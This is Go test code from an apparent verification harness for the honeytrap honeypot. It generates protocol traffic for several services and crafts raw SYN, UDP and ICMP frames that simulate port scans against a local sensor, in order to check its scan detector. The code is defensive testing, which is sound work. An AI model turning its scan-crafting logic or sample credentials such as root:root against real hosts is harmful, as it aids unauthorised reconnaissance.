			var o []string
			for _, e := range evs {
				if s(e, "category") == "cwmp" {
					o = append(o, "cwmp:"+s(e, "cwmp.method"))
				}
			}
			return o
		}},
	{Name: "ipp", Type: "ipp", Net: "tcp", Port: 631, OneReq: true,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			uri := "ipp://p.test/printers/" + word(r)
			b := []byte{1, 1, 0, 2, 0, 0, 0, byte(r.Intn(200))}
			b = append(b, 0x01)
			b = append(b, tlv(0x47, "attributes-charset", "utf-8")...)
			b = append(b, tlv(0x48, "attributes-natural-language", "en")...)
			b = append(b, tlv(0x45, "printer-uri", uri)...)
			b = append(b, 0x03)
			b = append(b, []byte("doc "+word(r))...)
			return [][]byte{gen.HTTPRequest("POST", "/printers/x", [][2]string{{"Host", "p.test"}, {"Content-Type", "application/ipp"}}, b, r.Chance(1, 3))}, []string{"ipp:" + uri}
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "ipp" {
					o = append(o, "ipp:"+s(e, "ipp.uri"))
				}
			}
			return o
		}},
	{Name: "ldap", Type: "ldap", Net: "tcp", Port: 389, Extra: "credentials=[\"root:root\"]\n",
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			id := r.Range(1, 50)
			add := func(b []byte, typ string) {
				ch = append(ch, b)
				ex = append(ex, fmt.Sprintf("ldap:%d:%s", id, typ))
				id++
			}
			add(gen.LDAPBind(id, "root", "root"), "bind")
			for i := r.Range(1, 5); i > 0; i-- {
				switch r.Intn(8) {
				case 0:
					add(gen.LDAPSearch(id, "dc=x", gen.LDAPFilterEq("uid", word(r)), "cn"), "search")
				case 1:
					add(gen.LDAPSearch(id, "", gen.LDAPFilterPresent("objectClass")), "search")
				case 2:
					add(gen.LDAPMsg(id, gen.BER(0x68, gen.BERStr("cn="+word(r)+",dc=y"), gen.BER(0x30, gen.BER(0x30, gen.BERStr("cn"), gen.BER(0x31, gen.BERStr("x")))))), "add")
				case 3:
					add(gen.LDAPMsg(id, gen.BER(0x4a, []byte("cn="+word(r)+",dc=y"))), "delete")
				case 4:
					add(gen.LDAPMsg(id, gen.BER(0x66, gen.BERStr("cn=x"), gen.BER(0x30, gen.BER(0x30, gen.BEREnum(2), gen.BER(0x30, gen.BERStr("sn"), gen.BER(0x31, gen.BERStr("v"))))))), "modify")
				case 5:
					add(gen.LDAPMsg(id, gen.BER(0x6e, gen.BERStr("cn=x"), gen.BER(0x30, gen.BERStr("cn"), gen.BERStr("x")))), "compare")
				case 6:
					add(gen.LDAPMsg(id, gen.BER(0x6c, gen.BERStr("cn=x"), gen.BERStr("cn=y"), gen.BERBool(true))), "modify-dn")
				case 7:
					add(gen.LDAPBind(id, "cn="+word(r), word(r)), "bind")
				}
			}
			add(gen.LDAPMsg(id, gen.BER(0x42)), "unbind")
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "ldap" {
					id, _ := lab.Int(e, "ldap.message-id")
					o = append(o, fmt.Sprintf("ldap:%d:%s", id, s(e, "ldap.request-type")))
				}
			}
			return o
		}},
	// datagram services: one datagram, one event
	{Name: "dns", Type: "dns", Net: "udp", Port: 53,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			for i := r.Range(1, 4); i > 0; i-- {
				id := uint16(r.Intn(65536))
				ch = append(ch, gen.DNSQuery(id, word(r)+".test", 1))
				ex = append(ex, fmt.Sprintf("dns:%d", id))
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "dns" {
					o = append(o, "dns:"+s(e, "dns.id"))
				}
			}
			return o
		}},
	{Name: "tftp", Type: "tftp", Net: "udp", Port: 69,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			for i := r.Range(1, 4); i > 0; i-- { // <= 4 per source IP: the C10 limiter drops further ones by design
				op := r.PickI([]int{1, 2})
				fn := word(r)
				ch = append(ch, gen.TFTPPacket(op, fn, "octet"))
				ex = append(ex, fmt.Sprintf("tftp:%s:%s", map[int]string{1: "tftp-read", 2: "tftp-write"}[op], fn))
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "tftp" {
					o = append(o, "tftp:"+s(e, "type")+":"+strings.TrimRight(s(e, "tftp.filename"), "\x00"))
				}
			}
			return o
		}},
	{Name: "snmp", Type: "snmp", Net: "udp", Port: 161,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			for i := r.Range(1, 4); i > 0; i-- {
				tag := byte(r.PickI([]int{0xa0, 0xa1, 0xa3}))
				last := r.Intn(100)
				ch = append(ch, gen.SNMPPacket(0, "public", tag, r.Intn(1000), gen.BER(0x06, []byte{0x2b, 6, 1, 2, 1, 1, byte(last), 0})))
				ex = append(ex, fmt.Sprintf("snmp:%s:.1.3.6.1.2.1.1.%d.0", map[byte]string{0xa0: "get-request", 0xa1: "get-next-request", 0xa3: "set-request"}[tag], last))
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "snmp" {
					oid := s(e, "snmp.oids")
					if !strings.HasPrefix(oid, ".") {
						oid = "." + oid
					}
					o = append(o, "snmp:"+s(e, "type")+":"+oid)
				}
			}
			return o
		}},
	{Name: "memcached-udp", Type: "memcached", Net: "udp", Port: 11211, Gen: genMemcached(true), Extract: extractMemcached},
	{Name: "counterstrike", Type: "counterstrike", Net: "udp", Port: 27015,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			names := map[int]string{0x54: "a2s_info", 0x55: "a2s_player", 0x56: "a2s_rules", 0x57: "a2s_serverquery_challenge", 0x69: "a2s_ping"}
			for i := r.Range(1, 4); i > 0; i-- {
				q := r.PickI([]int{0x54, 0x55, 0x56, 0x57, 0x69})
				ch = append(ch, append([]byte{0xff, 0xff, 0xff, 0xff, byte(q)}, []byte(word(r)+"\x00")...))
				ex = append(ex, "cs:"+names[q])
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "counterstrike" {
					o = append(o, "cs:"+s(e, "counterstrike.query"))
				}
			}
			return o
		}},
}

func tlv(tag byte, name, val string) []byte {
	b := []byte{tag, byte(len(name) >> 8), byte(len(name))}
	b = append(b, name...)
	b = append(b, byte(len(val)>>8), byte(len(val)))
	return append(b, val...)
}

func genMemcached(udp bool) func(r *core.Rng) ([][]byte, []string) {
	return func(r *core.Rng) ([][]byte, []string) {
		var ch [][]byte
		var ex []string
		n := r.Range(2, 6)
		if udp {
			n = r.Range(1, 3)
		}
		for i := 0; i < n; i++ {
			var b []byte
			switch r.Intn(5) {
			case 0, 1:
				l := r.PickS([]string{"get " + word(r), "stats", "flush_all", "delete " + word(r), "version"})
				b = []byte(l + "\r\n")
				ex = append(ex, "cmd:"+l)
			default:
				sz := r.PickI([]int{0, 1, 5, 79, 80, 81, 200})
				verb := r.PickS([]string{"set", "add", "replace", "append", "prepend"})
				key := word(r)
				l := fmt.Sprintf("%s %s 0 0 %d", verb, key, sz)
				b = []byte(l + "\r\n" + r.Alnum(sz) + "\r\n")
				ex = append(ex, "cmd:"+l, fmt.Sprintf("store:%s:%s:%d", verb, key, sz))
			}
			if udp {
				b = append([]byte{0, byte(i), 0, 0, 0, 1, 0, 0}, b...)
			}
			ch = append(ch, b)
		}
		return ch, ex
	}
}

func extractMemcached(evs []core.EvRec) []string {
	var o []string
	for _, e := range evs {
		if s(e, "category") != "memcached" {
			continue
		}
		if s(e, "type") == "memcached-command" {
			o = append(o, "cmd:"+s(e, "memcached.command"))
		} else {
			o = append(o, fmt.Sprintf("store:%s:%s:%s", s(e, "memcached.command"), s(e, "memcached.key"), s(e, "memcached.bytes")))
		}
	}
	return o
}

func genHTTP(targets []string, lo, hi int, withBody bool) func(r *core.Rng) ([][]byte, []string) {
	return func(r *core.Rng) ([][]byte, []string) {
		var ch [][]byte
		var ex []string
		for i := r.Range(lo, hi); i > 0; i-- {
			m := r.PickS([]string{"GET", "POST", "PUT", "DELETE", "HEAD"})
			t := r.PickS(targets)
			if strings.Contains(t, "?") {
				t += word(r)
			} else {
				t += "?q=" + word(r)
			}
			var body []byte
			longChunked := 0
			if m == "POST" || m == "PUT" {
				body = []byte("k=" + r.Alnum(r.Range(0, 60)))
				if withBody && r.Chance(1, 3) {
					// longer than the part of the body the service records (1024 bytes)
					long := [][2]int{{1500, 1}, {3000, 1}, {1500, 0}, {1022, 1}, {3000, 1}}[r.Intn(5)]
					body = []byte("k=" + r.Alnum(long[0]))
					longChunked = long[1]
				}
			}
			hs := [][2]string{{"Host", "h.test"}, {"X-Tag", word(r)}}
			chunked := body != nil && r.Chance(1, 3)
			if len(body) > 1000 {
				chunked = longChunked == 1
			}
			ch = append(ch, gen.HTTPRequest(m, t, hs, body, chunked))
			if withBody {
				// the request's body is one of its decoded fields (the service records its first 1024 bytes)
				rec := body
				if len(rec) > 1024 {
					rec = rec[:1024]
				}
				ex = append(ex, "req:"+m+" "+t+" body="+string(rec))
			} else {
				ex = append(ex, "req:"+m+" "+t)
			}
			if len(body) > 1000 && i == 1 && hi > 1 {
				// a long body is never the end of the stream: one more request follows it
				t2 := "/after?q=" + word(r)
				ch = append(ch, gen.HTTPRequest("GET", t2, hs, nil, false))
				ex = append(ex, "req:GET "+t2+" body=")
			}
		}
		return ch, ex
	}
}

func extractHTTP(cat string) func(evs []core.EvRec) []string {
	return func(evs []core.EvRec) []string {
		var o []string
		for _, e := range evs {
			if s(e, "category") == cat {
				if cat == "http" || cat == "docker" || cat == "elasticsearch" {
					o = append(o, "req:"+s(e, "http.method")+" "+s(e, "http.url")+" body="+s(e, "payload"))
				} else {
					o = append(o, "req:"+s(e, "http.method")+" "+s(e, "http.url"))
				}
			}
		}
		return o
	}
}

var _ = hex.EncodeToString
