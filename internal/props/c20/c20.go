// Package c20: a port scan is reported once, listing exactly the ports
// probed. Bursts of probes are written into the real Start() loop of a Canary
// built by the verif constructor; the real knock detector (5 s timer) emits
// portscan events, which are compared with the set of probed pairs. The
// grouping container is checked against a set model over all short operation
// sequences.
package c20

import (
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
	fr "verif/htlab/internal/ref/frames"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C20" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one raw listener instance (verif constructor, real receive loop and knock detector) receiving bursts of 1..150 probes (TCP SYN, UDP to undecoded ports, ICMP echo, repeated ports) from 1..4 sources whose probes are interleaved (all orders for 2 sources x 3 probes and 3 x 2, seeded beyond); single- and mixed-protocol bursts; events collected after the detector's tick. Plus: all operation sequences of length <=6 over Add/Remove/Each/Count/Find on 3 keys of the grouping container against a set model. Non-trivial = >=1 portscan event observed / a sequence that changed the set; distinct by scenario parameters. Also a source that scans again after it has been reported (repeat-scan): the second burst must be reported on its own. Slow-tail scans: 105-140 probes at once, then one every 200 ms for six seconds, alone and after another source's single probe. fixed-source-port scans: every probe of a source carries the same source port and the probed ports are that port and its neighbours (tcp; udp on ports without a decoder), in shuffled orders, half of them repeated after the report. two-sensor-addresses: the listener owns a second interface; one or two sources probe ports on both addresses in one burst; one report per source and destination."
}
func (prop) Assumptions() []string {
	return []string{"TCP probes avoid port 22 (ignored by the packet handler on purpose) and UDP probes avoid the decoded ports", "for mixed-protocol bursts one event per protocol group is accepted; every pair must still be listed exactly once overall", "events are awaited for up to 16 s (three detector periods); verdicts are on content"}
}

var me = net.IPv4(127, 0, 0, 1)

type probe struct {
	Src   int    `json:"src"`
	Proto string `json:"proto"` // tcp | udp | icmp
	Port  int    `json:"port"`
	// DelayMs: pause before this probe is sent (a slow scan: never five seconds of silence, but spread over more
	// than the detector's period)
	DelayMs int `json:"delay_ms,omitempty"`
	// Sport: the probe's source port (a scanner told to use one: nmap -g 53); 0 = a fresh one per probe
	Sport int `json:"sport,omitempty"`
	// Dst: 1 = the probe goes to the sensor's second address (0: its first)
	Dst int `json:"dst,omitempty"`
}

func (p probe) pair() string {
	if p.Proto == "icmp" {
		return "icmp"
	}
	return fmt.Sprintf("%s/%d", p.Proto, p.Port)
}

type scenario struct {
	Sources int     `json:"sources"`
	Probes  []probe `json:"probes"`
	Kind    string  `json:"kind"`
	// Again: a second burst by the same sources, sent after the first one has been reported (the detector has
	// removed its group): it must be reported on its own, listing exactly its ports
	Again []probe `json:"again,omitempty"`
}

// perms of interleaving: sequences of source indices with given counts.
func orders(counts []int) [][]int {
	var out [][]int
	var rec func(cur []int, left []int)
	rec = func(cur []int, left []int) {
		done := true
		for i, l := range left {
			if l > 0 {
				done = false
				left[i]--
				rec(append(cur, i), left)
				left[i]++
			}
		}
		if done {
			out = append(out, append([]int(nil), cur...))
		}
	}
	rec(nil, append([]int(nil), counts...))
	return out
}

var udpPorts = []int{9, 7, 69, 111, 137, 500, 514, 4500, 5353, 11211, 27015, 33434}
var tcpPorts = []int{21, 23, 25, 80, 110, 143, 443, 445, 1433, 3306, 3389, 5900, 6379, 8080, 9200}

func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	// exhaustive interleavings: 2 sources x 3 probes, 3 sources x 2 probes (UDP, so that the knocks are reachable)
	for _, o := range orders([]int{3, 3}) {
		sc := scenario{Sources: 2, Kind: "interleave-2x3"}
		n := []int{0, 0}
		for _, s := range o {
			sc.Probes = append(sc.Probes, probe{Src: s, Proto: "udp", Port: udpPorts[n[s]]})
			n[s]++
		}
		out = append(out, sc)
	}
	o3 := orders([]int{2, 2, 2})
	lim := 30
	if tier == "thorough" {
		lim = len(o3)
	}
	for i, o := range o3 {
		if i >= lim {
			break
		}
		sc := scenario{Sources: 3, Kind: "interleave-3x2"}
		n := []int{0, 0, 0}
		for _, s := range o {
			sc.Probes = append(sc.Probes, probe{Src: s, Proto: "udp", Port: udpPorts[n[s]]})
			n[s]++
		}
		out = append(out, sc)
	}
	n := 150
	if tier == "thorough" {
		n = 3000
	}
	for i := 0; i < n; i++ {
		r := core.NewRng(seed, "C20", i)
		sc := scenario{Sources: r.Range(1, 4)}
		protos := [][]string{{"tcp"}, {"udp"}, {"icmp"}, {"tcp", "udp"}, {"tcp", "udp", "icmp"}, {"udp", "icmp"}}[r.Intn(6)]
		sc.Kind = "burst-" + strings.Join(protos, "+")
		total := r.PickI([]int{1, 2, 3, 5, 10, 40, 150})
		for j := 0; j < total; j++ {
			p := probe{Src: r.Intn(sc.Sources), Proto: r.PickS(protos)}
			switch p.Proto {
			case "tcp":
				p.Port = tcpPorts[r.Intn(len(tcpPorts))]
				if r.Chance(1, 3) {
					p.Port = 1024 + r.Intn(200)
				}
			case "udp":
				p.Port = udpPorts[r.Intn(len(udpPorts))]
				if r.Chance(1, 3) {
					p.Port = 20000 + r.Intn(200)
				}
			}
			sc.Probes = append(sc.Probes, p)
		}
		out = append(out, sc)
	}
	// slow tails: more than a hundred probes at once, then one every 200 ms for six seconds; and the same while
	// another source's single probe comes due for its report in the middle of it
	ns := 4
	if tier == "thorough" {
		ns = 40
	}
	for i := 0; i < ns; i++ {
		r := core.NewRng(seed, "C20/slow", i)
		proto := r.PickS([]string{"tcp", "udp"})
		sc := scenario{Sources: 1 + i%2, Kind: "slow-tail"}
		if sc.Sources == 2 {
			sc.Probes = append(sc.Probes, probe{Src: 1, Proto: proto, Port: 7})
		}
		n0 := r.Range(105, 140)
		for j := 0; j < n0; j++ {
			sc.Probes = append(sc.Probes, probe{Src: 0, Proto: proto, Port: 1024 + j})
		}
		for j := 0; j < 30; j++ {
			sc.Probes = append(sc.Probes, probe{Src: 0, Proto: proto, Port: 3000 + j, DelayMs: 200})
		}
		out = append(out, sc)
	}
	// a source that comes back after it has been reported
	nr := 24
	if tier == "thorough" {
		nr = 300
	}
	for i := 0; i < nr; i++ {
		r := core.NewRng(seed, "C20/repeat", i)
		sc := scenario{Sources: r.Range(1, 2), Kind: "repeat-scan"}
		proto := r.PickS([]string{"tcp", "udp", "udp"})
		ports := tcpPorts
		if proto == "udp" {
			ports = udpPorts
		}
		for s := 0; s < sc.Sources; s++ {
			for j := r.Range(1, 4); j > 0; j-- {
				sc.Probes = append(sc.Probes, probe{Src: s, Proto: proto, Port: ports[r.Intn(len(ports))]})
			}
		}
		// the returning source is the last one that knocked in some scenarios and not in others
		back := r.Intn(sc.Sources)
		if r.Bool() {
			sc.Probes = append(sc.Probes, probe{Src: back, Proto: proto, Port: ports[r.Intn(len(ports))]})
		}
		for j := r.Range(1, 4); j > 0; j-- {
			pt := ports[r.Intn(len(ports))]
			if r.Bool() { // a port it had probed before
				for _, q := range sc.Probes {
					if q.Src == back {
						pt = q.Port
					}
				}
			}
			sc.Again = append(sc.Again, probe{Src: back, Proto: proto, Port: pt})
		}
		out = append(out, sc)
	}
	// a sensor with two addresses, scanned by one source in one burst: a report per destination, each with the ports
	// probed on it (some ports on both)
	nt := 4
	if tier == "thorough" {
		nt = 40
	}
	for i := 0; i < nt; i++ {
		r := core.NewRng(seed, "C20/two-dst", i)
		proto := r.PickS([]string{"udp", "udp", "tcp", "icmp"})
		sc := scenario{Sources: 1 + i%2, Kind: "two-sensor-addresses-" + proto}
		for s := 0; s < sc.Sources; s++ {
			for j := r.Range(3, 8); j > 0; j-- {
				p := probe{Src: s, Proto: proto, Dst: r.Intn(2)}
				switch proto {
				case "tcp":
					p.Port = 1024 + r.Intn(6)
				case "udp":
					p.Port = 20000 + r.Intn(6)
				}
				sc.Probes = append(sc.Probes, p)
			}
			sc.Probes = append(sc.Probes, probe{Src: s, Proto: proto, Dst: 0, Port: 20100}, probe{Src: s, Proto: proto, Dst: 1, Port: 20100})
		}
		out = append(out, sc)
	}
	// a scanner with one fixed source port whose port range contains that very port (and its neighbours), in
	// several orders; in every other scenario it comes back after its report with the same port pairs
	nf := 8
	if tier == "thorough" {
		nf = 80
	}
	for i := 0; i < nf; i++ {
		r := core.NewRng(seed, "C20/fixed-sport", i)
		proto := r.PickS([]string{"tcp", "tcp", "udp"})
		sp := r.PickI([]int{53, 80, 20000, 443})
		if proto == "udp" {
			sp = r.PickI([]int{20000, 30000}) // udp ports the listener has no protocol decoder for
		}
		sc := scenario{Sources: 1 + i%2, Kind: "fixed-source-port-" + proto}
		for s := 0; s < sc.Sources; s++ {
			ports := []int{sp - 2, sp - 1, sp, sp + 1, sp + 2}
			for a := len(ports) - 1; a > 0; a-- {
				b := r.Intn(a + 1)
				ports[a], ports[b] = ports[b], ports[a]
			}
			for _, pt := range ports {
				sc.Probes = append(sc.Probes, probe{Src: s, Proto: proto, Port: pt, Sport: sp})
			}
		}
		if i%4 >= 2 {
			for _, q := range sc.Probes {
				if q.Src == 0 {
					sc.Again = append(sc.Again, q)
				}
			}
		}
		out = append(out, sc)
	}
	return out
}

func srcIP(k, s int) net.IP { return net.IPv4(100, byte(64+s), byte(k>>8), byte(k)) }

// me2 is the sensor's second address (set by the child when the host has a second interface)
var me2 net.IP
var canaryMu sync.Mutex

func frame(k int, p probe, seq int) []byte {
	src := srcIP(k, p.Src)
	me := me
	if p.Dst == 1 && me2 != nil {
		me = me2
	}
	sport := uint16(40000 + seq)
	if p.Sport > 0 {
		sport = uint16(p.Sport)
	}
	mac := net.HardwareAddr{2, 0, 0, byte(p.Src), byte(k >> 8), byte(k)}
	var l4 []byte
	var proto uint8
	switch p.Proto {
	case "tcp":
		proto = 6
		l4 = fr.TCP{Sport: sport, Dport: uint16(p.Port), Seq: uint32(seq) * 7, Off: -1, Flags: fr.SYN}.Marshal(src, me, nil)
	case "udp":
		proto = 17
		l4 = fr.UDP(src, me, sport, uint16(p.Port), -1, []byte("scan"))
	default:
		proto = 1
		l4 = fr.ICMPEcho(uint16(k), uint16(seq), []byte("abcdefgh"))
	}
	return fr.Eth(net.HardwareAddr{0, 0, 0, 0, 0, 0}, mac, 0x0800, fr.IPv4{IHL: -1, TotalLen: -1, Proto: proto, Src: src, Dst: me}.Marshal(l4))
}

type evObs struct {
	Src   string   `json:"src"`
	Dst   string   `json:"dst"`
	Ports []string `json:"ports"`
}

type scnObs struct {
	Events  []evObs `json:"events"`
	Events2 []evObs `json:"events_after_second_burst,omitempty"`
	WaitMs  int64   `json:"wait_ms"`
	// Me2: the sensor's second address, when the scenario uses one
	Me2 string `json:"sensor_second_address,omitempty"`
}

type params struct {
	Mode string `json:"mode"` // scan | set
	Off  int    `json:"off"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 4
	if tier == "thorough" {
		chunks = 12
	}
	per := (len(all) + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Mode: "scan", Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("scan/%d", c), N: n, Params: p, Timeout: 1800})
	}
	p, _ := json.Marshal(params{Mode: "set"})
	plan = append(plan, core.Batch{Name: "set", N: 1, Params: p, Timeout: 900})
	return plan
}

func runScan(k int, sc scenario) scnObs {
	id := fmt.Sprintf("canary-%d", k)
	two := strings.HasPrefix(sc.Kind, "two-sensor-addresses")
	canaryMu.Lock()
	lab.CanarySecondInterface = two
	h, err := lab.StartCanary(id, "gateway", nil, true)
	lab.CanarySecondInterface = false
	if err == nil && two && h.Me2 != nil {
		me2 = h.Me2
	}
	canaryMu.Unlock()
	if err != nil || (two && h.Me2 == nil) {
		return scnObs{} // (no second interface on this host: nothing to run)
	}
	t0 := time.Now()
	collect := func() []evObs {
		var out []evObs
		for _, c := range lab.Events.Since(0) {
			if c.Ch != id || lab.Str(c.Rec, "category") != "portscan" {
				continue
			}
			e := evObs{Src: lab.Str(c.Rec, "source-ip"), Dst: lab.Str(c.Rec, "destination-ip")}
			if tv, ok := c.Rec.KV["portscan.ports"]; ok {
				if l, ok := tv.V.([]string); ok {
					e.Ports = l
				} else if l, ok := tv.V.([]interface{}); ok {
					for _, x := range l {
						e.Ports = append(e.Ports, fmt.Sprint(x))
					}
				}
			}
			out = append(out, e)
		}
		return out
	}
	// burst sends the probes and waits until every pair shows up in events after the first skip ones and the
	// detector's quiet period has passed (or 16 s)
	burst := func(probes []probe, seq0, skip int) {
		for i, p := range probes {
			if p.DelayMs > 0 {
				time.Sleep(time.Duration(p.DelayMs) * time.Millisecond)
			}
			h.Write(frame(k, p, seq0+i))
		}
		want := map[string]bool{}
		for _, p := range probes {
			want[srcIP(k, p.Src).String()+"|"+p.pair()] = true
		}
		t1 := time.Now()
		for {
			got := map[string]bool{}
			evs := collect()
			if skip < len(evs) {
				for _, e := range evs[skip:] {
					for _, p := range e.Ports {
						got[e.Src+"|"+p] = true
					}
				}
			}
			all := true
			for w := range want {
				if !got[w] {
					all = false
				}
			}
			if (all && time.Since(t1) > 5500*time.Millisecond) || time.Since(t1) > 16*time.Second {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		time.Sleep(700 * time.Millisecond) // duplicates of the same tick arrive together; a little slack
	}
	burst(sc.Probes, 0, 0)
	ob := scnObs{Events: collect()}
	if two {
		ob.Me2 = h.Me2.String()
	}
	if len(sc.Again) > 0 {
		n1 := len(ob.Events)
		burst(sc.Again, len(sc.Probes), n1)
		if evs := collect(); len(evs) > n1 {
			ob.Events2 = evs[n1:]
		}
	}
	ob.WaitMs = time.Since(t0).Milliseconds()
	return ob
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	if p.Mode == "set" {
		o.Begin(0)
		childSet(o)
		o.End(0)
		return
	}
	all := scenarios(b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	// waves of concurrent instances share the real-time wait for the detector's tick
	const wave = 48
	for from := b.From; from < to; from += wave {
		end := from + wave
		if end > to {
			end = to
		}
		var wg sync.WaitGroup
		res := make([]scnObs, end-from)
		for k := from; k < end; k++ {
			wg.Add(1)
			go func(k int) {
				defer wg.Done()
				res[k-from] = runScan(p.Off+k, all[p.Off+k])
			}(k)
		}
		wg.Wait()
		for k := from; k < end; k++ {
			o.Begin(k)
			o.EmitX("scan", res[k-from])
			o.End(k)
		}
	}
}

// ---- UniqueSet vs. set model ----------------------------------------------------------

type setObs struct {
	Sequences  int      `json:"sequences"`
	Changed    int      `json:"changed"`
	Mismatches []string `json:"mismatches"`
}

func childSet(o *core.Obs) {
	ob := setObs{}
	type key struct{ n int }
	keys := []*key{{0}, {1}, {2}}
	// ops: 0..2 Add(k), 3..5 Remove(k), 6 Each, 7 Count, 8..10 Find(k)
	const nops = 11
	var seq []int
	var run func(depth int)
	check := func() {
		ob.Sequences++
		us := canary.NewUniqueSet(func(a, b interface{}) bool { return a.(*key).n == b.(*key).n })
		model := []int{} // insertion-ordered set of key indices
		has := func(i int) int {
			for j, x := range model {
				if x == i {
					return j
				}
			}
			return -1
		}
		changed := false
		for step, op := range seq {
			fail := func(f string, a ...interface{}) {
				if len(ob.Mismatches) < 20 {
					ob.Mismatches = append(ob.Mismatches, fmt.Sprintf("sequence %v step %d: ", seq, step)+fmt.Sprintf(f, a...))
				}
			}
			switch {
			case op < 3:
				got := us.Add(&key{op}) // a fresh, equal element: Add must return the one already in the set
				if j := has(op); j < 0 {
					model = append(model, op)
					changed = true
					if got.(*key).n != op {
						fail("Add returned another element")
					}
				} else if got.(*key).n != op {
					fail("Add of an equal element returned %v", got)
				}
			case op < 6:
				// Remove works on identity: find the stored element first
				el := us.Find(func(v interface{}) bool { return v.(*key).n == op-3 })
				if el != nil {
					us.Remove(el)
				} else {
					us.Remove(keys[op-3])
				}
				if j := has(op - 3); j >= 0 {
					model = append(model[:j], model[j+1:]...)
					changed = true
				}
			case op == 6:
				var seen []int
				us.Each(func(i int, v interface{}) { seen = append(seen, v.(*key).n) })
				if fmt.Sprint(seen) != fmt.Sprint(model) {
					fail("Each visited %v, model %v", seen, model)
				}
			case op == 7:
				if us.Count() != len(model) {
					fail("Count %d, model %d", us.Count(), len(model))
				}
			default:
				el := us.Find(func(v interface{}) bool { return v.(*key).n == op-8 })
				if (el != nil) != (has(op-8) >= 0) {
					fail("Find(%d) = %v, model has=%v", op-8, el, has(op-8) >= 0)
				}
			}
		}
		if us.Count() != len(model) {
			if len(ob.Mismatches) < 20 {
				ob.Mismatches = append(ob.Mismatches, fmt.Sprintf("sequence %v: final Count %d, model %d", seq, us.Count(), len(model)))
			}
		}
		if changed {
			ob.Changed++
		}
	}
	run = func(depth int) {
		if depth > 0 {
			check()
		}
		if depth == 6 {
			return
		}
		for op := 0; op < nops; op++ {
			seq = append(seq, op)
			run(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	run(0)
	o.EmitX("set", ob)
}

// ---- judge --------------------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	all := scenarios(b.Tier, b.Seed)
	for _, r := range recs {
		switch r.T {
		case "set":
			var ob setObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: 0, Verdict: core.Held, Key: "uniqueset", Sample: map[string]interface{}{"mode": "UniqueSet vs set model", "sequences": ob.Sequences, "sequences_that_changed_the_set": ob.Changed, "exhaustive_up_to_length": 6, "keys": 3}}
			if len(ob.Mismatches) > 0 {
				res.Verdict = core.Violated
				res.Sig = "C20|uniqueset|model-mismatch"
				res.What = ob.Mismatches[0]
				res.Witness = ob.Mismatches
			}
			out = append(out, res)
		case "scan":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			k := p.Off + r.K
			sc := all[k]
			res := core.Result{K: r.K, Verdict: core.Held}
			if len(ob.Events) > 0 {
				jb, _ := json.Marshal(sc)
				res.Key = string(jb)
				res.Sample = map[string]interface{}{"kind": sc.Kind, "sources": sc.Sources, "probes": len(sc.Probes), "first_probes": sc.Probes[:mini(6, len(sc.Probes))], "events": ob.Events, "waited_ms": ob.WaitMs}
			}
			fail := func(rule, what string) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C20|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"scenario": sc, "events": ob.Events, "index": k}
			}
			evalBurst := func(probes []probe, events []evObs, tag string) {
				for sd := 0; sd < 2*sc.Sources; sd++ {
					// one report per source and destination: the sensor's first address and, in scenarios that use
					// it, its second one
					s, d := sd/2, sd%2
					dstIP := "127.0.0.1"
					if d == 1 {
						dstIP = ob.Me2
					}
					ip := srcIP(k, s).String()
					want := map[string]bool{}
					protos := map[string]bool{}
					for _, pr := range probes {
						if pr.Src == s && pr.Dst == d {
							want[pr.pair()] = true
							protos[pr.Proto] = true
						}
					}
					if len(want) == 0 {
						continue
					}
					got := map[string]int{}
					nev := 0
					for _, e := range events {
						if e.Src != ip {
							continue
						}
						if e.Dst != "127.0.0.1" && (ob.Me2 == "" || e.Dst != ob.Me2) {
							fail("wrong-destination"+tag, fmt.Sprintf("portscan event for %s names destination %s", ip, e.Dst))
						}
						if e.Dst != dstIP {
							continue
						}
						nev++
						for _, pt := range e.Ports {
							got[pt]++
						}
					}
					pk := protoKey(protos)
					if nev == 0 {
						fail("no-event|"+pk+tag, fmt.Sprintf("source %s probed %v and no portscan event was emitted for it within 16 s", ip, keys(want)))
						continue
					}
					var missing, foreign, twice []string
					for w := range want {
						if got[w] == 0 {
